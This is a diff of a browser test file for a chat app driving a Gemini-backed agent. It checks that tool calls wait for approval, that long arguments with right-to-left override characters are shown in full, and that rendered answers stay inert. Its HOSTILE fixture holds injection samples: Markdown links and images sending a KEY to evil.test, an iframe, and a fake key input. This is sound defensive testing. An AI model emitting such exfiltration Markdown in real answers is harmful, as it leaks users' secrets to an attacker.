@@ -4,14 +4,13 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Iterator
 from typing import Any
 
-import pytest
 from playwright.sync_api import BrowserContext, Locator, Page, expect
 
 from tests.page import PageProcess
-from tests.page.hands import composer, expect_rest, open_page, say
+from tests.page.hands import begin_anew, composer, expect_rest, open_page, say
+from tests.page.journeys import step
 from tests.wire_server import GeminiProcess
 
 SEARCH = {"kind": "Call", "name": "web_search", "args": {"query": "When was the bridge opened?"}}
@@ -34,13 +33,6 @@ print("hello")
 """
 
 
-@pytest.fixture(autouse=True)
-def _clear(gemini: GeminiProcess) -> Iterator[None]:
-    gemini.control(clear=True)
-    yield
-    assert gemini.read("violations") == []
-
-
 def words(text: str) -> dict[str, Any]:
     return {"kind": "Text", "text": text}
 
@@ -49,67 +41,16 @@ def permit_search(page: Page) -> None:
     page.get_by_role("checkbox", name="Search").check(force=True)
 
 
-def test_what_was_found_has_footnotes_and_tables_formulas_and_code_are_drawn(
-    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
-) -> None:
-    gemini.control(on_text=[SEARCH, FOUND, words(RICH)])
-    open_page(page, gemini_studio.url)
-    permit_search(page)
-    say(page, "when was the bridge opened?")
-    expect_rest(page)
-    note = page.locator("#chat .bot a", has_text="¹")
-    expect(note).to_have_attribute("href", "https://vertexaisearch.cloud.google.com/redirect/1")
-    expect(page.locator("#chat .sources sup")).to_have_text("1")
-    expect(page.locator("#chat .bot table td").first).to_have_text("Golden Gate")
-    expect(page.locator("#chat .bot .katex").first).to_be_visible()
-    expect(page.locator("#chat .bot pre code")).to_contain_text('print("hello")')
-
-
-def test_an_address_that_nobody_named_waits_for_a_click_and_words_come_back_with_up(
-    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
-) -> None:
-    read = {"kind": "Call", "name": "read_url", "args": {"url": FOREIGN}}
-    gemini.control(on_text=[SEARCH, FOUND, read, words("I left it alone.")])
-    open_page(page, gemini_studio.url)
-    permit_search(page)
-    say(page, "look it up")
-    card = page.get_by_role("group", name="May I?")
-    expect(card).to_contain_text("read_url")
-    expect(card).to_contain_text(FOREIGN)
-    expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
-    page.reload()
-    expect(card.get_by_role("button", name="Allow")).to_be_enabled()
-    card.get_by_role("button", name="Don't").click()
-    expect(page.locator("#chat")).to_contain_text("I left it alone.")
-    expect(page.locator("#chat")).to_contain_text("Not done")
-    expect_rest(page)
-    answered = json.dumps(gemini.read("requests")[-1]["body"])
-    assert "did not allow it" in answered
-
-    box = composer(page)
-    box.fill("a draft\nof two lines")
-    box.press("ArrowUp")
-    expect(box).to_have_value("a draft\nof two lines")
-    box.press("ArrowUp")
-    expect(box).to_have_value("look it up")
-    box.press("ArrowUp")
-    box.press("ArrowDown")
-    box.press("ArrowDown")
-    expect(box).to_have_value("a draft\nof two lines")
-    box.dispatch_event("compositionstart")
-    box.evaluate("area => area.setSelectionRange(0, 0)")
-    box.dispatch_event("keydown", {"key": "ArrowUp", "isComposing": True, "bubbles": True})
-    expect(box).to_have_value("a draft\nof two lines")
-
-
-def ask_to_overwrite(page: Page, gemini: GeminiProcess, url: str, content: str) -> Locator:
+def ask_to_overwrite(page: Page, gemini: GeminiProcess, content: str) -> Locator:
     """Have the agent want to overwrite a file after a search, and return the card that asks."""
 
     def write(text: str) -> dict[str, Any]:
         return {"kind": "Call", "name": "write_file", "args": {"name": "plan.md", "content": text}}
 
-    gemini.control(on_text=[write("short"), words("Saved."), SEARCH, FOUND, write(content), words("It is done.")])
-    open_page(page, url)
+    gemini.control(
+        clear=True, on_text=[write("short"), words("Saved."), SEARCH, FOUND, write(content), words("It is done.")]
+    )
+    begin_anew(page)
     permit_search(page)
     say(page, "save a plan")
     expect(page.locator("#chat")).to_contain_text("Saved.")
@@ -118,52 +59,6 @@ def ask_to_overwrite(page: Page, gemini: GeminiProcess, url: str, content: str) 
     card = page.get_by_role("group", name="May I?")
     expect(card).to_contain_text("plan.md")
     return card
-
-
-def test_a_long_call_can_be_allowed_once_its_end_was_in_sight(
-    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
-) -> None:
-    content = "".join(f"line {number} \u202e of many\n" for number in range(4_200)) + "THE VERY END"
-    assert len(content) > 80_000
-    card = ask_to_overwrite(page, gemini, gemini_studio.url, content)
-    allow, region = card.get_by_role("button", name="Allow"), card.get_by_role("region", name="Complete arguments")
-    expect(card.get_by_role("status")).to_be_visible()
-    expect(allow).to_be_disabled()
-    expect(card.get_by_role("button", name="Don't")).to_be_enabled()
-    expect(region).to_contain_text("THE VERY END")
-    expect(region).to_contain_text("line 0 U+202E of many")
-    page.reload()
-    expect(allow).to_be_disabled()
-    region.focus()
-    page.keyboard.press("PageDown")
-    expect(allow).to_be_disabled()
-    page.keyboard.press("End")
-    expect(allow).to_be_enabled()
-    expect(card.get_by_role("status")).to_be_hidden()
-    page.keyboard.press("Home")
-    page.keyboard.press("Tab")
-    expect(allow).to_be_focused()
-    page.keyboard.press("Enter")
-    expect(page.locator("#chat")).to_contain_text("It is done.")
-    expect_rest(page)
-    expect(page.locator("#chat")).to_contain_text("You allowed it")
-
-
-def test_a_hundred_thousand_characters_are_scrolled_through_with_the_wheel(
-    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
-) -> None:
-    card = ask_to_overwrite(page, gemini, gemini_studio.url, "x" * 100_000 + " THE VERY END")
-    allow, region = card.get_by_role("button", name="Allow"), card.get_by_role("region", name="Complete arguments")
-    expect(allow).to_be_disabled()
-    assert region.evaluate("one => one.scrollWidth <= one.clientWidth"), "long lines are wrapped"
-    region.hover()
-    for _ in range(200):
-        page.mouse.wheel(0, 2_000)
-        if region.evaluate("one => one.scrollTop + one.clientHeight >= one.scrollHeight - 1"):
-            break
-    expect(allow).to_be_enabled()
-    card.get_by_role("button", name="Don't").click()
-    expect(page.locator("#chat")).to_contain_text("Not done")
 
 
 HOSTILE = """**Bold**, a [link](http://evil.test/y?d=KEY) and ![x](http://evil.test/x?d=KEY).
@@ -193,42 +88,132 @@ $$ <input> ![](http://evil.test/z)
 Inline `<input>`, \\(a<b\\), <details open><summary>x</summary><textarea></textarea></details> THE END"""
 
 
-def test_nothing_in_an_answer_is_live_whatever_it_is_fenced_as(
+def test_what_a_tool_may_do_is_asked_word_for_word(
     page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
 ) -> None:
-    gemini.control(on_text=[words(HOSTILE)])
     open_page(page, gemini_studio.url)
-    say(page, "```mermaid\ngraph TD; A[<input>]\n``` <form><input></form>?")
-    expect(page.locator("#chat")).to_contain_text("THE END")
-    expect_rest(page)
-    answer = page.locator("#chat .md")
-    expect(answer.locator("input, form, select, textarea, iframe, img, details, .mermaid, svg")).to_have_count(0)
-    expect(answer.locator("button:not(.copy_code_button)")).to_have_count(0)
-    expect(answer.locator("pre code.language-mermaid").last).to_contain_text("<input placeholder='Gemini key'>")
-    expect(answer.locator("pre code.language-html")).to_contain_text('<iframe src="http://evil.test">')
-    expect(answer.locator("a")).to_have_text(["http://evil.test/y?d=KEY"])
-    expect(answer.locator(".katex")).to_have_count(1)
-    expect(answer.last).to_contain_text("[image: evil.test]")
+    with step("an address that nobody named waits for a click, over a reload too"):
+        read = {"kind": "Call", "name": "read_url", "args": {"url": FOREIGN}}
+        gemini.control(clear=True, on_text=[SEARCH, FOUND, read, words("I left it alone.")])
+        begin_anew(page)
+        permit_search(page)
+        say(page, "look it up")
+        card = page.get_by_role("group", name="May I?")
+        expect(card).to_contain_text("read_url")
+        expect(card).to_contain_text(FOREIGN)
+        expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
+        page.reload()
+        expect(card.get_by_role("button", name="Allow")).to_be_enabled()
+        card.get_by_role("button", name="Don't").click()
+        expect(page.locator("#chat")).to_contain_text("I left it alone.")
+        expect(page.locator("#chat")).to_contain_text("Not done")
+        expect_rest(page)
+        answered = json.dumps(gemini.read("requests")[-1]["body"])
+        assert "did not allow it" in answered
+    with step("words that were sent come back with Up, and the draft with Down"):
+        box = composer(page)
+        box.fill("a draft\nof two lines")
+        box.press("ArrowUp")
+        expect(box).to_have_value("a draft\nof two lines")
+        box.press("ArrowUp")
+        expect(box).to_have_value("look it up")
+        box.press("ArrowUp")
+        box.press("ArrowDown")
+        box.press("ArrowDown")
+        expect(box).to_have_value("a draft\nof two lines")
+        box.dispatch_event("compositionstart")
+        box.evaluate("area => area.setSelectionRange(0, 0)")
+        box.dispatch_event("keydown", {"key": "ArrowUp", "isComposing": True, "bubbles": True})
+        expect(box).to_have_value("a draft\nof two lines")
+        box.fill("")
+    with step("a long call can be allowed once its end was in sight"):
+        content = "".join(f"line {number} \u202e of many\n" for number in range(4_200)) + "THE VERY END"
+        assert len(content) > 80_000
+        card = ask_to_overwrite(page, gemini, content)
+        allow, region = card.get_by_role("button", name="Allow"), card.get_by_role("region", name="Complete arguments")
+        expect(card.get_by_role("status")).to_be_visible()
+        expect(allow).to_be_disabled()
+        expect(card.get_by_role("button", name="Don't")).to_be_enabled()
+        expect(region).to_contain_text("THE VERY END")
+        expect(region).to_contain_text("line 0 U+202E of many")
+        page.reload()
+        expect(allow).to_be_disabled()
+        region.focus()
+        page.keyboard.press("PageDown")
+        expect(allow).to_be_disabled()
+        page.keyboard.press("End")
+        expect(allow).to_be_enabled()
+        expect(card.get_by_role("status")).to_be_hidden()
+        page.keyboard.press("Home")
+        page.keyboard.press("Tab")
+        expect(allow).to_be_focused()
+        page.keyboard.press("Enter")
+        expect(page.locator("#chat")).to_contain_text("It is done.")
+        expect_rest(page)
+        expect(page.locator("#chat")).to_contain_text("You allowed it")
+    with step("a hundred thousand characters are scrolled through with the wheel"):
+        card = ask_to_overwrite(page, gemini, "x" * 100_000 + " THE VERY END")
+        allow, region = card.get_by_role("button", name="Allow"), card.get_by_role("region", name="Complete arguments")
+        expect(allow).to_be_disabled()
+        assert region.evaluate("one => one.scrollWidth <= one.clientWidth"), "long lines are wrapped"
+        region.hover()
+        for _ in range(200):
+            page.mouse.wheel(0, 2_000)
+            if region.evaluate("one => one.scrollTop + one.clientHeight >= one.scrollHeight - 1"):
+                break
+        expect(allow).to_be_enabled()
+        card.get_by_role("button", name="Don't").click()
+        expect(page.locator("#chat")).to_contain_text("Not done")
+        expect_rest(page)
 
 
-def test_copy_gives_an_answer_as_markdown_and_code_as_it_is(
+ANSWER = (
+    "# Title\n\nSo **it** *is* `<b>`, see [this](https://a.test/b).\nNext line: \\(a<b\\)\n\n"
+    "1. one\n2. two\n   - inner\n\n"
+    "| a | b |\n| --- | --: |\n| 1 | 2 |\n\n> quoted\n\n```python\nprint('$$')\n\n\nx = '\\['\n```\n\n$$E = mc^2$$"
+)
+
+
+def test_an_answer_is_drawn_and_copied_and_nothing_of_it_is_live(
     page: Page, profile: BrowserContext, gemini: GeminiProcess, gemini_studio: PageProcess
 ) -> None:
-    answer = (
-        "# Title\n\nSo **it** *is* `<b>`, see [this](https://a.test/b).\nNext line: \\(a<b\\)\n\n"
-        "1. one\n2. two\n   - inner\n\n"
-        "| a | b |\n| --- | --: |\n| 1 | 2 |\n\n> quoted\n\n```python\nprint('$$')\n\n\nx = '\\['\n```\n\n$$E = mc^2$$"
-    )
-    gemini.control(on_text=[words(answer)])
-    profile.grant_permissions(["clipboard-read", "clipboard-write"])
     open_page(page, gemini_studio.url)
-    say(page, "tell me")
-    expect(page.locator("#chat .md .katex")).to_have_count(2)
-    expect_rest(page)
-    page.locator("#chat .bot-row .md").last.hover()
-    page.get_by_role("button", name="Copy this message").last.click()
-    expected = answer.replace("[this](https://a.test/b)", "this (https://a.test/b)")
-    page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=expected)
-    page.get_by_role("button", name="Copy this code").click()
-    code = "print('$$')\n\n\nx = '\\['"
-    page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=code)
+    with step("what was found has footnotes, and tables, formulas and code are drawn"):
+        gemini.control(clear=True, on_text=[SEARCH, FOUND, words(RICH)])
+        permit_search(page)
+        say(page, "when was the bridge opened?")
+        expect_rest(page)
+        note = page.locator("#chat .bot a", has_text="¹")
+        expect(note).to_have_attribute("href", "https://vertexaisearch.cloud.google.com/redirect/1")
+        expect(page.locator("#chat .sources sup")).to_have_text("1")
+        expect(page.locator("#chat .bot table td").first).to_have_text("Golden Gate")
+        expect(page.locator("#chat .bot .katex").first).to_be_visible()
+        expect(page.locator("#chat .bot pre code")).to_contain_text('print("hello")')
+    with step("nothing in an answer is live, whatever it is fenced as"):
+        gemini.control(clear=True, on_text=[words(HOSTILE)])
+        begin_anew(page)
+        say(page, "```mermaid\ngraph TD; A[<input>]\n``` <form><input></form>?")
+        expect(page.locator("#chat")).to_contain_text("THE END")
+        expect_rest(page)
+        answer = page.locator("#chat .md")
+        expect(answer.locator("input, form, select, textarea, iframe, img, details, .mermaid, svg")).to_have_count(0)
+        expect(answer.locator("button:not(.copy_code_button)")).to_have_count(0)
+        expect(answer.locator("pre code.language-mermaid").last).to_contain_text("<input placeholder='Gemini key'>")
+        expect(answer.locator("pre code.language-html")).to_contain_text('<iframe src="http://evil.test">')
+        expect(answer.locator("a")).to_have_text(["http://evil.test/y?d=KEY"])
+        expect(answer.locator(".katex")).to_have_count(1)
+        expect(answer.last).to_contain_text("[image: evil.test]")
+    with step("copy gives an answer as Markdown, and code as it is"):
+        gemini.control(clear=True, on_text=[words(ANSWER)])
+        profile.grant_permissions(["clipboard-read", "clipboard-write"])
+        begin_anew(page)
+        say(page, "tell me")
+        expect(page.locator("#chat .md .katex")).to_have_count(2)
+        expect_rest(page)
+        page.locator("#chat .bot-row .md").last.hover()
+        page.get_by_role("button", name="Copy this message").last.click()
+        expected = ANSWER.replace("[this](https://a.test/b)", "this (https://a.test/b)")
+        page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=expected)
+        page.get_by_role("button", name="Copy this code").click()
+        code = "print('$$')\n\n\nx = '\\['"
+        page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=code)
